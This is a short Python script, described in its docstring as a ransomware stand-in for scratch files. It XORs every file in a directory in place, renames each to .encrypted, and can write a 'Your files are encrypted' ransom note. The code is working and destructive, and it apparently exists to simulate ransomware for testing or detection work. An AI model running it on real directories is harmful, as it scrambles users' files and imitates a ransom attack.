"""Ransomware stand-in for scratch files: XORs each file of DIR in place and renames it
to NAME.encrypted, all from this one process; --note then writes a ransom note in DIR."""
import argparse
import os

ap = argparse.ArgumentParser()
ap.add_argument("--note")
ap.add_argument("dir")
a = ap.parse_args()

for name in sorted(os.listdir(a.dir)):
    path = os.path.join(a.dir, name)
    with open(path, "r+b") as f:
        data = bytes(b ^ 0x5A for b in f.read())
        f.seek(0)
        f.write(data)
    os.rename(path, path + ".encrypted")
if a.note:
    with open(os.path.join(a.dir, a.note), "w") as f:
        f.write("Your files are encrypted.\n")
